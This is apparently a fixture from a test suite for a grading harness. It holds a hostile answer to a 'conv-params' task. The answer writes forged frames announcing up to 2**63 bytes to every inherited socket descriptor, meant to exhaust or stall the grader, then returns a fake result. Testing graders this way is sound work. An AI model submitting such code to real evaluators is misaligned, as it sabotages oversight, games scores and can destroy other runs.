"""A frame announces 2**63 bytes; others announce much and send little."""

INTENT = "the grader reserves memory, or waits"
EXPECTED = {"conv-params": 0}
OURS_ONLY = True
DESTRUCTIVE = True
MAY_LOSE_OTHERS = True
ANSWERS = {
    "conv-params": """
import os
import socket
import struct

sizes = (9, 1 << 63), (0xFFFFFFFF, 0), (1 << 24, 1 << 28)
frames = [struct.pack("!4sIQ", b"CNN1", a, b) for a, b in sizes]


def conv_params(*_):
    for fd in range(3, 32):
        for frame in frames:
            try:
                sock = socket.socket(fileno=os.dup(fd))
                sock.setblocking(False)
                sock.send(frame)
            except OSError:
                pass
    return 0, 0
"""
}
